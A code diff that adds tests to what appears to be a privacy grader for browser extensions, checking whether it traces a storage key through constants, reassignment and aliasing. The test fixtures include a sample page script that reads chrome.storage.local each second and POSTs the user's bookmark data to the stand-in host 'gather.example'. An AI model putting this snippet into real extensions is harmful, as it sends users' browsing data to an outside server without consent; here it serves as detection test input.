@@ -54,6 +54,21 @@ it.each([
   expect(await graded(extension)).toBe('D');
 });
 
+it.each([
+  ['sends nothing kept under another', "const NAME = 'account';", '', /^A/],
+  ['sends what is kept under it', "const NAME = 'folder';", '', /^D$/],
+  ['sends what is kept under any, where it is changed', "let NAME = 'account';", "NAME = 'fold' + er;", /^D$/],
+  ['sends what is kept under any, where two name it', "const NAME = 'account';", "self.NAME = 'folder';", /^D$/],
+])('%s key than the one that a script of the page names', async (_, named, more, grade) => {
+  const files = {
+    'page.html': '<script src="names.js"></script><script src="page.js"></script>',
+    'names.js': named,
+    'page.js': `${more} setInterval(async () => { const all = await chrome.storage.local.get([NAME]); fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(all[NAME]) }); }, 1000);`,
+    'main.js': 'chrome.bookmarks.getTree().then((folder) => chrome.storage.local.set({ folder }));',
+  };
+  expect(await graded({ manifest: { ...MANIFEST, options_page: 'page.html' }, files })).toMatch(grade);
+});
+
 it('sends all where the function that makes the key may give nothing', async () => {
   const background = `function keyOf(name) { if (name) return 'account_' + name; }
     chrome.bookmarks.getTree().then((folder) => chrome.storage.local.set({ folder }));
